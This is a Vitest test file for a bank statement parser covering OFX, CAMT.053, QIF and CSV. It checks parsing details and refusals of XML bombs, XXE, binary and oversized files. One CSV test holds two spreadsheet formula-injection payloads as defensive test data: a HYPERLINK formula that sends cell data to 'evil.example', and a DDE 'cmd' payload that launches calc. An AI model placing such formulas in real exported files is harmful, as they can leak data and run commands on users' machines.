import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseStatement } from './parse-statement.ts';
import { StatementError } from './statement.ts';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url));
const rows = (name: string, options = {}) => parseStatement(fixture(name), options).statement.transactions;
const brief = (name: string, options = {}) =>
  rows(name, options).map((t) => [t.date, t.amount, t.currency, t.payee, t.fitid, t.account]);

function failure(name: string | Uint8Array, options = {}): StatementError {
  try {
    parseStatement(typeof name === 'string' ? fixture(name) : name, options);
  } catch (error) {
    if (error instanceof StatementError) return error;
    throw error;
  }
  throw new Error('expected the file to be refused');
}

describe('OFX', () => {
  it('reads OFX 1 SGML with unclosed leaves, CRLF, comma radix, thousands, time zones and entities', () => {
    expect(brief('ofx1-checking.ofx')).toEqual([
      ['2026-10-03', '8.50', 'USD', 'BLUE BOTTLE COFFEE', '2026100301', '121000358/000123456789'],
      ['2026-10-15', '-2500.00', 'USD', 'ACME PAYROLL', '2026101501', '121000358/000123456789'],
      ['2026-10-20', '1650.00', 'USD', 'Smith & Sons &lt;Rent&gt;', '2026102001', '121000358/000123456789'],
      ['2026-10-31', '2.50', 'USD', 'Service fee', null, '121000358/000123456789'],
    ]);
    expect(parseStatement(fixture('ofx1-checking.ofx')).statement.accounts).toEqual([
      { key: '121000358/000123456789', type: 'checking', currency: 'USD' },
    ]);
  });

  it('reads a one-line QFX with CHARSET:NONE and Intuit tags', () => {
    expect(brief('ofx1-one-line.qfx')).toEqual([
      ['2026-10-31', '-1.23', 'USD', 'Interest', 'INT-10', '021000021/555'],
    ]);
  });

  it('turns negative credit-card charges into positive spending (Windows-1252 text, repeated FITID kept)', () => {
    expect(brief('ofx-credit-card-negative-charges.qfx')).toEqual([
      ['2026-10-02', '45.67', 'USD', 'WHOLE FOODS #123', 'C1', '4111111111111111'],
      ['2026-10-02', '45.67', 'USD', 'WHOLE FOODS #123', 'C1', '4111111111111111'],
      ['2026-10-10', '-300.00', 'USD', 'PAYMENT THANK YOU', 'C2', '4111111111111111'],
      ['2026-10-12', '12.00', 'USD', 'Café Münster', 'C3', '4111111111111111'],
    ]);
  });

  it('reads every statement of an OFX 2 file: a bank account and a credit card, each with its own rows', () => {
    const parsed = parseStatement(fixture('ofx2-bank-and-card.ofx')).statement;
    expect(parsed.accounts).toEqual([
      { key: '30004/FR7630004000031234567890143', type: 'checking', currency: 'EUR' },
      { key: '5500000000000004', type: 'credit card', currency: 'EUR' },
    ]);
    expect(brief('ofx2-bank-and-card.ofx').map((r) => [r[1], r[3], r[5]])).toEqual([
      ['23.40', 'Boulangerie & Co', '30004/FR7630004000031234567890143'],
      ['200.00', 'Card payment', '30004/FR7630004000031234567890143'],
      ['59.99', 'Libraire', '5500000000000004'],
      ['-200.00', 'Payment received', '5500000000000004'],
    ]);
    // 12:00 at +1 on the 6th stays the 6th: the bank's calendar day, never shifted through GMT.
    expect(rows('ofx2-bank-and-card.ofx')[2]!.date).toBe('2026-10-06');
  });

  it('refuses a truncated OFX file naming the unclosed element and its line', () => {
    const error = failure('truncated.ofx');
    expect(error.location).toEqual({
      line: 16,
      element: 'OFX/BANKMSGSRSV1/STMTTRNRS/STMTRS/BANKTRANLIST/STMTTRN',
    });
    expect(error.message).toMatch(/opened on line 13/);
  });

  it('refuses an XML bomb before any entity is expanded', () => {
    const error = failure('billion-laughs.ofx');
    expect(error.location.line).toBe(2);
    expect(error.message).toMatch(/DOCTYPE.*refused/);
  });

  it('names the transaction element whose amount is missing or unreadable', () => {
    const text = (amount: string) =>
      `<?xml version="1.0"?><?OFX OFXHEADER="200" VERSION="220"?><OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>USD</CURDEF><BANKACCTFROM><ACCTID>9</ACCTID></BANKACCTFROM><BANKTRANLIST><STMTTRN><DTPOSTED>20261001</DTPOSTED><TRNAMT>1</TRNAMT><FITID>a</FITID></STMTTRN><STMTTRN><DTPOSTED>20261001</DTPOSTED>${amount}<FITID>b</FITID></STMTTRN></BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>`;
    const missing = failure(new TextEncoder().encode(text('')));
    expect(missing.location.element).toBe('OFX/BANKMSGSRSV1/STMTTRNRS/STMTRS/BANKTRANLIST/STMTTRN[2]/TRNAMT');
    const bad = failure(new TextEncoder().encode(text('<TRNAMT>null</TRNAMT>')));
    expect(bad.message).toMatch(/STMTTRN\[2\]\/TRNAMT: "null" is not an amount/);
  });
});

describe('CAMT.053', () => {
  it('reads booked entries, splits a batch into its TxDtls, signs by CdtDbtInd and reversal, skips pending', () => {
    const parsed = parseStatement(fixture('camt053.xml')).statement;
    expect(parsed.skipped).toBe(1);
    expect(brief('camt053.xml').map((r) => [r[0], r[1], r[3], r[4]])).toEqual([
      ['2026-10-02', '42.50', 'Stadtwerke München', 'REF-0001'],
      ['2026-10-15', '-3000.00', 'Arbeitgeber GmbH', 'REF-0002'],
      ['2026-10-20', '50.00', 'Verein A', 'BATCH-7-A'],
      ['2026-10-20', '70.00', 'Verein B', 'BATCH-7-B'],
      ['2026-10-20', '30.00', 'Verein C', 'BATCH-7-C'],
      ['2026-10-22', '-42.50', null, 'REF-0003'],
    ]);
    expect(parsed.accounts).toEqual([{ key: 'DE89370400440532013000', type: null, currency: 'EUR' }]);
  });

  it('refuses an external entity (XXE) and a truncated document, naming where', () => {
    expect(failure('xxe.camt.xml').location).toEqual({ line: 2 });
    const truncated = failure('truncated.camt.xml');
    expect(truncated.location).toEqual({ line: 5, element: 'Document/BkToCstmrStmt/Stmt/Ntry' });
  });
});

describe('QIF', () => {
  it("reads splits, M/D'YY dates, blank lines and U amounts", () => {
    const parsed = rows('qif-splits.qif');
    expect(parsed.map((t) => [t.date, t.amount, t.payee, t.memo])).toEqual([
      ['2026-01-02', '120.00', 'GROCERY OUTLET', 'Weekly shop'],
      ['2026-06-04', '-1500.00', 'Employer Inc', null],
      ['2025-12-31', '9.99', 'Streaming', null],
    ]);
    expect(parsed[0]!.splits).toEqual([
      { category: 'Groceries', memo: 'Food', amount: '100.00' },
      { category: 'Household', memo: null, amount: '20.00' },
    ]);
  });

  it('decides the day order for the whole file: a day above 12 makes it D/M for every record', () => {
    expect(rows('qif-dmy.qif').map((t) => t.date)).toEqual(['2026-04-03', '2026-04-25']);
    expect(rows('qif-ambiguous.qif').map((t) => t.date)).toEqual(['2026-03-04', '2026-05-06']);
    expect(rows('qif-ambiguous.qif', { dateOrder: 'dmy' }).map((t) => t.date)).toEqual([
      '2026-04-03',
      '2026-06-05',
    ]);
  });

  it('refuses splits that do not add up to the total, naming the record', () => {
    const text = '!Type:Bank\nD1/2/2026\nT-10.00\nSA\n$-4.00\nSB\n$-5.00\n^\n';
    expect(failure(new TextEncoder().encode(text)).location).toEqual({ line: 2, field: '$' });
  });
});

describe('CSV', () => {
  it('reads a European Latin-1 export: preamble, ";" separator, decimal commas, thousands dots, D.M.Y, footer total', () => {
    const parse = parseStatement(fixture('csv-european.csv'));
    expect(parse.csv?.mapping).toMatchObject({
      delimiter: ';',
      headerLine: 4,
      dateColumn: 'Buchungstag',
      dateOrder: 'dmy',
      decimalSeparator: ',',
      payeeColumn: 'Empfänger',
      currencyColumn: 'Währung',
    });
    expect(parse.statement.skipped).toBe(1);
    expect(
      parse.statement.transactions.map((t) => [t.date, t.amount, t.currency, t.payee, t.source]),
    ).toEqual([
      ['2026-10-02', '4.80', 'EUR', 'Bäckerei Müller', 'line 5'],
      ['2026-10-05', '1250.00', 'EUR', 'Vermieter', 'line 6'],
      ['2026-10-15', '-3100.55', 'EUR', 'Arbeitgeber GmbH', 'line 7'],
      ['2026-10-15', '4.80', 'EUR', 'Bäckerei Müller', 'line 8'],
    ]);
  });

  it('reads debit and credit columns with a BOM, CRLF, M/D/Y, quoted thousands and a multi-line memo', () => {
    const parse = parseStatement(fixture('csv-debit-credit.csv'));
    expect(parse.csv?.mapping.amount).toEqual({
      kind: 'debit-credit',
      debitColumn: 'Debit',
      creditColumn: 'Credit',
    });
    expect(parse.statement.transactions.map((t) => [t.date, t.amount, t.payee, t.memo, t.source])).toEqual([
      ['2026-10-01', '3.50', 'COFFEE SHOP', null, 'line 2'],
      ['2026-10-02', '3.50', 'COFFEE SHOP', null, 'line 3'],
      ['2026-10-13', '-2000.00', 'PAYROLL', 'Monthly\nsalary', 'line 4'],
      ['2026-10-14', '120.00', 'Hardware, Inc.', null, 'line 6'],
    ]);
  });

  it('flips the sign of a card export whose purchases are positive, when the account is a credit card', () => {
    const card = parseStatement(fixture('csv-card-positive.csv'), { accountType: 'credit card' });
    expect(card.csv?.mapping.sign).toBe('positive-is-out');
    expect(card.statement.transactions.map((t) => t.amount)).toEqual(['25.99', '14.20', '-500.00']);
    const bank = parseStatement(fixture('csv-card-positive.csv'), { accountType: 'checking' });
    expect(bank.statement.transactions.map((t) => t.amount)).toEqual(['-25.99', '-14.20', '500.00']);
  });

  it('keeps formula-looking cells as plain text', () => {
    expect(rows('csv-formula.csv').map((t) => t.payee)).toEqual([
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
    ]);
  });

  it('refuses a file without an amount column, naming the field and offering its columns to choose from', () => {
    const error = failure('csv-missing-amount.csv');
    expect(error.location).toEqual({ field: 'amount' });
    expect(error.details).toMatchObject({
      layout: { headerLine: 1, delimiter: ',', columns: ['Date', 'Payee', 'Balance'] },
    });
    const unknown = failure(new TextEncoder().encode('Wann;Wer;Wert\n02.11.2026;Kiosk;-3,50\n'));
    expect(unknown.details).toMatchObject({
      layout: { headerLine: 1, delimiter: ';', columns: ['Wann', 'Wer', 'Wert'] },
    });
  });

  it('names the line and column of an unreadable cell', () => {
    const text = 'Date,Payee,Amount\n2026-10-01,A,1.00\n2026-10-02,B,12abc\n';
    const error = failure(new TextEncoder().encode(text));
    expect(error.location).toEqual({ line: 3, field: 'Amount' });
    const date = failure(new TextEncoder().encode('Date,Payee,Amount\n2026-10-01,A,1.00\n2026-13-45,B,1\n'));
    expect(date.location).toMatchObject({ field: 'Date' });
  });

  it('refuses a mapping naming an optional column the file lacks', () => {
    const mapping = { ...parseStatement(fixture('csv-card-positive.csv')).csv!.mapping, memoColumn: 'Notes' };
    const error = failure(fixture('csv-card-positive.csv'), { csvMapping: mapping });
    expect(error.location).toEqual({ line: 1, field: 'Notes' });
  });

  it('refuses a saved mapping whose column the new file lacks, naming the column', () => {
    const mapping = parseStatement(fixture('csv-card-positive.csv')).csv!.mapping;
    const error = failure(new TextEncoder().encode('Date,Description,Amount\n2026-10-01,A,1\n'), {
      csvMapping: mapping,
    });
    expect(error.location).toEqual({ line: 1, field: 'Transaction Date' });
  });
});

describe('any file', () => {
  it('refuses binary content, empty files and files over 10 MB', () => {
    expect(failure('garbage.bin').message).toMatch(/binary content/);
    expect(failure(new Uint8Array()).message).toMatch(/empty/);
    expect(failure(new Uint8Array(10 * 1024 * 1024 + 1).fill(65)).message).toMatch(/larger than 10 MB/);
  });

  it('refuses more than 100k rows, naming the line where the limit is crossed', () => {
    const body = Array.from({ length: 100_001 }, () => '2026-10-01,A,1.00').join('\n');
    const error = failure(new TextEncoder().encode(`Date,Payee,Amount\n${body}\n`));
    expect(error.location).toEqual({ line: 100_002 });
    expect(error.message).toMatch(/more than 100000 transactions/);
  });

  it('detects the format from the content, not the name', () => {
    const detected = [
      'ofx1-checking.ofx',
      'ofx2-bank-and-card.ofx',
      'camt053.xml',
      'qif-splits.qif',
      'csv-european.csv',
    ].map((name) => parseStatement(fixture(name)).statement.format);
    expect(detected).toEqual(['ofx', 'ofx', 'camt', 'qif', 'csv']);
  });
});
